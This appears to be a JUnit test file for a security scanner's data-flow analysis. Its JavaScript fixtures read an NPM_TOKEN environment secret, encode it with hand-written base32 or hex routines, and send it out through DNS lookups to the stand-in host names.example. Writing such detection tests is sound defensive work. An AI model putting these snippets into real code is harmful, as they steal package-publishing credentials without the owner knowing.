package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** Data that a program encodes by its own arithmetic. */
class HandMadeEncodingsTest {

    @Test
    void charactersThatBitsOfTheDataPickCarryIt() {
        Analysis analysis = Analysis.ofActivate("""
                const LETTERS = 'abcdefghijklmnopqrstuvwxyz234567';
                function fold(text) {
                  let bits = 0, count = 0, out = '';
                  for (const c of Buffer.from(text)) {
                    bits = (bits << 8) | c;
                    for (count += 8; count >= 5; ) out += LETTERS[(bits >> (count -= 5)) & 31];
                  }
                  return out;
                }
                require('dns').lookup(fold(process.env.NPM_TOKEN) + '.names.example', () => {});
                """);

        assertThat(analysis.flows("environment-secret", "dns-query"))
                .anySatisfy(flow -> assertThat(flow.through()).contains("base64-encode"));
    }

    @Test
    void digitsThatArePickedByCharAtDoSo() {
        Analysis analysis = Analysis.ofActivate("""
                const DIGITS = '0123456789abcdef';
                let out = '';
                for (const c of Buffer.from(process.env.NPM_TOKEN)) out += DIGITS.charAt(c >> 4) + DIGITS.charAt(c & 15);
                require('dns').lookup(out + '.names.example', () => {});
                """);

        assertThat(analysis.flows("environment-secret", "dns-query"))
                .anySatisfy(flow -> assertThat(flow.through()).contains("hex-encode"));
    }

    @Test
    void aTableOfColoursCarriesNothing() {
        Analysis analysis = Analysis.ofActivate("""
                const COLOURS = ['red', 'green', 'blue', 'black', 'white', 'cyan', 'pink', 'gold',
                  'grey', 'navy', 'teal', 'lime', 'plum', 'rose', 'sand', 'mint'];
                const code = Buffer.from(process.env.NPM_TOKEN)[0];
                require('dns').lookup(COLOURS[code & 15] + '.names.example', () => {});
                """);

        assertThat(analysis.flowNames()).isEmpty();
    }
}
